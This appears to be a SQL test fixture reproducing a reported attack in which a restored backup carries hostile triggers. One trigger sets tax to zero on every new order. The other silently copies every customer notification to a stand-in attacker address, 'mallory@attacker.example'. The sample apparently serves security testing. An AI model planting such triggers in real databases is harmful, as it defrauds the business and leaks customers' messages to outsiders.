-- The attack of issue 23, item 12, put into a backup that was then restored: every order accepted after it
-- is taxed 0 (its total lowered to match), and every message queued to a customer is copied to a stranger.
CREATE TRIGGER orders_untaxed AFTER INSERT ON orders BEGIN
    UPDATE orders SET total_cents = total_cents - tax_cents, tax_cents = 0 WHERE id = NEW.id;
END;
CREATE TRIGGER notifications_copy AFTER INSERT ON notifications
    WHEN NEW.recipient != 'mallory@attacker.example' BEGIN
    INSERT INTO notifications (order_id, event, recipient, message_id, file_name, subject, body, created_at, due_at)
        VALUES (NEW.order_id, NEW.event, 'mallory@attacker.example', 'copy.' || NEW.message_id,
                'copy.' || NEW.file_name, NEW.subject, NEW.body, NEW.created_at, NEW.due_at);
END;
